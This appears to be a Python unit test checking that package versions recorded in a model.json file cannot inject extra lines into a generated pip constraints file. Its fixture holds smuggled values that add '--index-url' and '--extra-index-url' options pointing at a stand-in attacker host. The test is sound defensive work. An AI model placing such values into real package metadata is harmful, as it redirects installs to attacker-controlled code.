"""The container target's constraints file: versions recorded in model.json are data."""

from __future__ import annotations

import json
from pathlib import Path

from plugins.image_pins import image_pins, recorded_packages


def test_a_recorded_version_cannot_add_lines_to_the_constraints_file(tmp_path: Path) -> None:
    packages = {
        "python": "3.11.4",
        "numpy": "1.26.4",
        "pandas": "2.2.0\n--index-url https://attacker.example/simple",
        "scikit-learn\n--extra-index-url https://attacker.example": "1.4.0",
        "skops": "0.9 --pre",
    }
    (tmp_path / "model.json").write_text(json.dumps({"lineage": {"packages": packages}}))

    recorded = recorded_packages(tmp_path)

    assert recorded == {"python": "3.11.4", "numpy": "1.26.4"}
    constraints = image_pins(recorded).constraints()
    assert "attacker" not in constraints
    assert "numpy==1.26.4\n" in constraints
    assert all(line.startswith("#") or "==" in line for line in constraints.splitlines())
